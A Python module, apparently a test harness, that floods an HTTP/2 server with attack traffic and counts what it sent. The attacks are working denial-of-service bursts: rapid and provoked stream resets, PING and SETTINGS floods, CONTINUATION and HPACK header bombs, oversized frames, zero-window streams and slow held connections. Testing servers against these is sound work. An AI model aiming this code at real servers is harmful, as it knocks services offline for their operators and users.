"""What an HTTP/2 server may be sent by somebody who means it harm, byte by byte.

python -m proofs.attacks ADDRESS NAME

Each attack goes on until its standard input ends, over connections of its own that it opens anew
when the server closes them. It says a line once it has begun, and its counts at the end.
"""

import itertools
import json
import struct
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress

from proofs.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Wire,
    frame,
    headers,
    message,
    opened,
    setting,
    text,
)

THREADS = 4
SLOW_CONNECTIONS = 500
BATCH = 50
_CANCEL = struct.pack(">I", 8)
_NO_WINDOW_AT_ALL = struct.pack(">I", 0)  # which the standard forbids
Burst = Callable[[Wire, int], None]


def rapid_reset(wire: Wire, number: int) -> None:
    """Calls that are taken back as soon as they are made."""
    block = headers()
    wire.send(
        b"".join(
            frame(HEADERS, END_HEADERS, each, block) + frame(RST_STREAM, 0, each, _CANCEL)
            for each in _streams(number)
        )
    )


def provoked_reset(wire: Wire, number: int) -> None:
    """Calls with a mistake after which the server takes them back itself."""
    block = headers()
    wire.send(
        b"".join(
            frame(HEADERS, END_HEADERS, each, block)
            + frame(WINDOW_UPDATE, 0, each, _NO_WINDOW_AT_ALL)
            for each in _streams(number)
        )
    )


def pings(wire: Wire, _: int) -> None:
    wire.send(frame(PING, 0, 0, bytes(8)) * BATCH)


def settings(wire: Wire, _: int) -> None:
    wire.send(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 1 << 16)) * BATCH)


def oversized(wire: Wire, number: int) -> None:
    """By turns: metadata, an endless header, a message, a frame, a header that unpacks to more."""
    stream = 2 * number + 1
    match number % 5:
        case 0:
            huge = headers(x="y" * (1 << 16))
            pieces = [huge[at : at + 16_000] for at in range(0, len(huge), 16_000)]
            wire.send(frame(HEADERS, 0, stream, pieces[0]))
            for piece in pieces[1:-1]:
                wire.send(frame(CONTINUATION, 0, stream, piece))
            wire.send(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
        case 1:
            wire.send(frame(HEADERS, 0, stream, headers()))
            for _ in range(64):
                wire.send(frame(CONTINUATION, 0, stream, headers(x="y" * 8_000)))
        case 2:
            wire.send(frame(HEADERS, END_HEADERS, stream, headers()))
            wire.send(frame(DATA, 0, stream, message(bytes(1_000), claimed=1 << 30)))
        case 3:
            kept = b"\x40" + text("x") + text("y" * 3_000)  # into the table, then 4,000 times out
            wire.send(frame(HEADERS, END_HEADERS, stream, headers() + kept + b"\xbe" * 4_000))
        case _:
            wire.send(struct.pack(">I", (1 << 24) - 1)[1:] + bytes([DATA, 0, 0, 0, 0, 1]))
            wire.send(bytes(1 << 16))


def unread(wire: Wire, number: int) -> None:
    """Calls whose answers find no room: their window is shut."""
    stream = 2 * number + 1
    wire.send(frame(HEADERS, END_HEADERS, stream, headers()))
    wire.send(frame(DATA, END_STREAM, stream, message(b"")))


def _streams(number: int) -> range:
    return range(2 * BATCH * number + 1, 2 * BATCH * (number + 1), 2)


BURSTS: Mapping[str, Burst] = {
    each.__name__: each
    for each in (rapid_reset, provoked_reset, pings, settings, oversized, unread)
}
ATTACKS = (*BURSTS, "slow_connections")


@contextmanager
def attack(name: str, address: str) -> Iterator[Counter[str]]:
    """From a process of its own, begun already. What it sent is in the tally afterwards."""
    command = [sys.executable, "-m", "proofs.attacks", address, name]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
    tally = Counter[str]()
    with subprocess.Popen(command, **pipes) as process:  # type: ignore[call-overload]
        try:
            process.stdout.readline()
            yield tally
            counts, _ = process.communicate(timeout=60)
            tally.update(json.loads(counts))
        finally:
            process.kill()


def main(address: str, name: str) -> None:
    stop, tally = threading.Event(), Counter[str]()
    attacking = (
        [threading.Thread(target=_keep_slow, args=(address, stop, tally))]
        if name == "slow_connections"
        else [
            threading.Thread(target=_keep_bursting, args=(address, BURSTS[name], stop, tally))
            for _ in range(THREADS)
        ]
    )
    for thread in attacking:
        thread.start()
    while not tally["bursts"] and any(thread.is_alive() for thread in attacking):
        stop.wait(0.01)
    print("begun", flush=True)
    sys.stdin.read()
    stop.set()
    for thread in attacking:
        thread.join()
    print(json.dumps(tally))


def _keep_bursting(address: str, burst: Burst, stop: threading.Event, tally: Counter[str]) -> None:
    opening = opened(setting(INITIAL_WINDOW_SIZE, 0)) if burst is unread else opened()
    while not stop.is_set():
        with suppress(OSError):
            wire = Wire(address, tally, opening)
            try:
                for number in itertools.count():
                    if stop.is_set():
                        break
                    burst(wire, number)
                    tally["bursts"] += 1
                    wire.empty()
            finally:
                wire.close()


def _keep_slow(address: str, stop: threading.Event, tally: Counter[str]) -> None:
    wires: dict[int, Wire] = {}
    while not stop.is_set():
        for number in range(SLOW_CONNECTIONS):
            try:
                if number not in wires:
                    wires[number] = _slow_wire(address, number % 4, tally)
                elif number % 4 == 3:
                    wires[number].send(frame(DATA, 0, 1, b"\0"))
                wires[number].empty()
            except OSError:
                wires.pop(number, None)
            if stop.is_set():
                break
        tally["bursts"] += 1
        stop.wait(0.2)
    for wire in wires.values():
        wire.close()


def _slow_wire(address: str, kind: int, tally: Counter[str]) -> Wire:
    """One that stays in the middle of the preface, before a call, in its headers, its message."""
    wire = Wire(address, tally, PREFACE[:8] if kind == 0 else opened())
    if kind == 2:
        wire.send(frame(HEADERS, 0, 1, headers(x="y" * 4_000)[:2_000]))
    elif kind == 3:
        wire.send(frame(HEADERS, END_HEADERS, 1, headers()))
        wire.send(frame(DATA, 0, 1, message(b"\0", claimed=1_000_000)))
    return wire


if __name__ == "__main__":
    main(*sys.argv[1:])
